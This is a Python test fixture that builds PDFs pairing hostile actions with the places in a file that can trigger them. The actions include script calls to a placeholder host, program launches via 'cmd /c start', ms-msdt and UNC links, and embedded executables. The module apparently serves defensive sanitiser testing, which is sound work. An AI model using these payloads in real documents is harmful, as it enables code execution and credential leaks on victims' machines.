"""PDFs that act: each kind of action in each place that can hold one."""

import io

from pikepdf import Array, Dictionary, Name, String

from tests.corpus.made import MARK, File, some
from tests.portal.lib import evil

WEB = f"https://{MARK}/"
SCRIPT = f"app.launchURL('{WEB}')"


def act(kind, **more):
    return lambda _pdf: Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def spec(pdf):
    held_inside = pdf.make_stream(b"MZ " + MARK.encode())
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(f"{MARK}.exe"), EF=Dictionary(F=held_inside, UF=held_inside))
    )


def chain(*kinds):
    """A harmless action that leads on to another."""
    return lambda pdf: Dictionary(
        S=Name.URI, URI=String("https://example.org/"), Next=Array([kind(pdf) for kind in kinds])
    )


def uri(address):
    return act("URI", URI=String(address))


ACTIONS = {
    "a script": act("JavaScript", JS=String(SCRIPT)),
    "a script in a stream": lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode())),
    "a script that says whose it is": lambda pdf: Dictionary(
        S=Name.JavaScript, JS=String(SCRIPT), P=pdf.pages[0].obj
    ),
    "a program": act("Launch", F=String(f"{MARK}.exe")),
    "a program of Windows": act("Launch", Win=Dictionary(F=String("cmd"), P=String(f"/c start {WEB}"))),
    "a file that is launched": lambda pdf: Dictionary(S=Name.Launch, F=spec(pdf), NewWindow=True),
    "a form that sends": act("SubmitForm", F=String(WEB), Flags=4),
    "data that are taken in": act("ImportData", F=String(f"//{MARK}/a.fdf")),
    "another document": act("GoToR", F=String(f"\\\\\\\\{MARK}\\\\a.pdf"), D=Array([0, Name.Fit])),
    "a document inside": lambda pdf: Dictionary(
        S=Name.GoToE, F=spec(pdf), T=Dictionary(R=Name.C, N=String(MARK))
    ),
    "a rendition": act("Rendition", OP=0, JS=String(SCRIPT)),
    "a sound": lambda pdf: Dictionary(S=Name.Sound, Sound=pdf.make_stream(MARK.encode(), R=8000)),
    "a film": act("Movie", T=String(MARK), Operation=Name.Play),
    "a hidden field": act("Hide", T=String(MARK), H=False),
    "an article elsewhere": act("Thread", F=String(f"//{MARK}/a.pdf"), D=0),
    "a command of a film": act("RichMediaExecute", CMD=Dictionary(C=String(MARK))),
    "a view in space": act("GoTo3DView", V=String(MARK)),
    "an action nobody knows": act("Evil", F=String(WEB)),
    "a local file as a link": uri(f"file:///{MARK}/a.exe"),
    "a share as a link": uri(f"\\\\\\\\{MARK}\\\\share"),
    "a script as a link": uri(f"javascript:location='{WEB}'"),
    "a script as a link behind a blank": uri(f" \\n\tjavascript:'{WEB}'"),
    "words as a link": uri(f"data:text/html,<script src={WEB}></script>"),
    "a program of Windows as a link": uri(f"ms-msdt:/id {MARK}"),
    "a command of the reader": act("Named", N=Name("/SaveAs"), X=String(MARK)),
    "a program after a link": chain(act("Launch", F=String(f"{MARK}.exe"))),
    "a script after a link after a link": chain(chain(act("JavaScript", JS=String(SCRIPT)))),
}


def note(pdf, kind="Link", **more):
    return Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), **more)


def opened_by_root(pdf, action):
    pdf.Root.OpenAction = action


def on_closing(pdf, action):
    pdf.Root.AA = Dictionary(WC=action, WP=action)


def on_the_page(pdf, action):
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def in_a_link(pdf, action):
    pdf.pages[0].obj.Annots = Array([note(pdf, A=pdf.make_indirect(action))])


def in_an_old_link(pdf, action):
    pdf.pages[0].obj.Annots = Array([note(pdf, PA=action)])


def in_a_watermark(pdf, action):
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note(pdf, "Watermark", AA=Dictionary(PO=action)))])


def field(pdf, **more):
    box = pdf.make_indirect(note(pdf, "Widget", FT=Name.Tx, T=String("a"), **more))
    pdf.pages[0].obj.Annots = Array([box])
    pdf.Root.AcroForm = Dictionary(Fields=Array([box]))
    return box


def in_a_field(pdf, action):
    field(pdf, A=action)


def as_one_types(pdf, action):
    field(pdf, AA=Dictionary(K=action, F=action, V=action))


def above_a_field(pdf, action):
    box = field(pdf)
    above = pdf.make_indirect(Dictionary(T=String("b"), Kids=Array([box]), AA=Dictionary(C=action)))
    box.Parent = above
    pdf.Root.AcroForm.Fields = Array([above])


def in_a_bookmark(pdf, action):
    mark = pdf.make_indirect(Dictionary(Title=String("One"), A=action))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=mark, Last=mark, Count=1))
    mark.Parent = pdf.Root.Outlines


def by_a_name(pdf, action):
    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), pdf.make_indirect(action)])))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])))


def after_a_page_is_turned(pdf, action):
    turn = Dictionary(S=Name.Named, N=Name.NextPage, Next=action)
    pdf.pages[0].obj.Annots = Array([note(pdf, A=turn)])


def in_a_list_nobody_counts(pdf, action):
    """Annotations that are themselves an object, direct in it."""
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([note(pdf, A=action), note(pdf, "Screen", A=action)]))


PLACES = {
    "on opening": opened_by_root, "on closing": on_closing, "on a page": on_the_page, "in a link": in_a_link,
    "in an old link": in_an_old_link, "in a watermark": in_a_watermark, "in a field": in_a_field,
    "while one types": as_one_types, "above a field": above_a_field, "in a bookmark": in_a_bookmark,
    "by a name": by_a_name, "after a page is turned": after_a_page_is_turned,
    "in a list nobody counts": in_a_list_nobody_counts,
}  # fmt: skip


def saved(change, **how):
    """A page with a change, as a file's bytes."""

    def build(_path):
        pdf = evil.blank()
        change(pdf)
        file = io.BytesIO()
        pdf.save(file, **how)
        return file.getvalue()

    return build


def acting(action, place, **how):
    return saved(lambda pdf: PLACES[place](pdf, ACTIONS[action](pdf)), **how)


# Names/JavaScript holds scripts only, and what else stands there is no action of anybody's.
CROSSED = [
    File("PDF", f"{action}, {place}", acting(action, place), "safe")
    for action, place in some(ACTIONS, PLACES, every=4)
]
